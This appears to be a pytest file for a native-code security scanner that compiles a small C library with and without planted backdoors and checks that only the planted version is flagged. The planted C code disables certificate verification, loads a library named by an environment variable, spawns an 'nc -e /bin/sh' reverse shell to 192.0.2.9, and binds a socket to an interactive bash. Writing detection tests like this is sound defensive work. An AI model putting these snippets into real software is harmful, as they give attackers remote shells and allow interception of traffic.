"""Checks of certificates that are switched off or always content, and what is spawned or loaded.

Spec: src/evenhand/native/unverified.py, words.py (posix_spawn) and put.py (dlopen).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.native.test_programs import library

SOURCE = r"""
#include <spawn.h>
#include <stdlib.h>
#include <unistd.h>
#include <sys/socket.h>
void *curl_easy_init(void);
int curl_easy_setopt(void *, int, ...);
int curl_easy_perform(void *);
int SSL_CTX_set_verify(void *, int, void *);
int SSL_set_verify(void *, int, void *);
void *dlopen(const char *, int);
extern char **environ;
int post(const char *where)
{
    void *c = curl_easy_init();
    if (!c)
        return 1;
    curl_easy_setopt(c, 10002, where);
    curl_easy_setopt(c, 64, PLANT ? 0L : 1L);
    return curl_easy_perform(c);
}
static int any(int sound, void *store) { return PLANT ? 1 : sound; }
static int asked(int sound, void *store) { return sound; }
int prepare(void *c) { return SSL_CTX_set_verify(c, 1, any); }
int prepare_one(void *c) { return SSL_set_verify(c, 1, asked); }
#if PLANT
void *hook(void) { return dlopen(getenv("LAMPS_HOOK"), 2); }
void notify(void)
{
    pid_t p;
    char *words[] = { "sh", "-c", "nc -e /bin/sh 192.0.2.9 4444", 0 };
    posix_spawn(&p, "/bin/sh", 0, 0, words, environ);
}
void remote(int s)
{
    pid_t p;
    posix_spawn_file_actions_t to;
    int c = accept(s, 0, 0);
    posix_spawn_file_actions_init(&to);
    posix_spawn_file_actions_adddup2(&to, c, 0);
    char *words[] = { "/bin/bash", "-i", 0 };
    posix_spawn(&p, "/bin/bash", &to, 0, words, environ);
}
#else
void *drawing(void) { return dlopen("liblamps-draw.so.1", 2); }
#endif
"""
FOUND = {
    ("check without effect", "CURLOPT_SSL_VERIFYPEER"),
    ("check without effect", "SSL_CTX_set_verify"),
    ("remote control", "dlopen"),
    ("remote control", "192.0.2.9"),
    ("remote control", "shell"),
}


@pytest.mark.parametrize("plant", [0, 1])
def test_only_what_is_switched_off_or_given_away_is_told(plant: int, tmp_path: Path) -> None:
    found = library(SOURCE, tmp_path / "lamps.so", plant=plant).table("hidden_access")
    assert {(f.kind, f.constant) for f in found if f.strength >= 0.5} == (FOUND if plant else set())
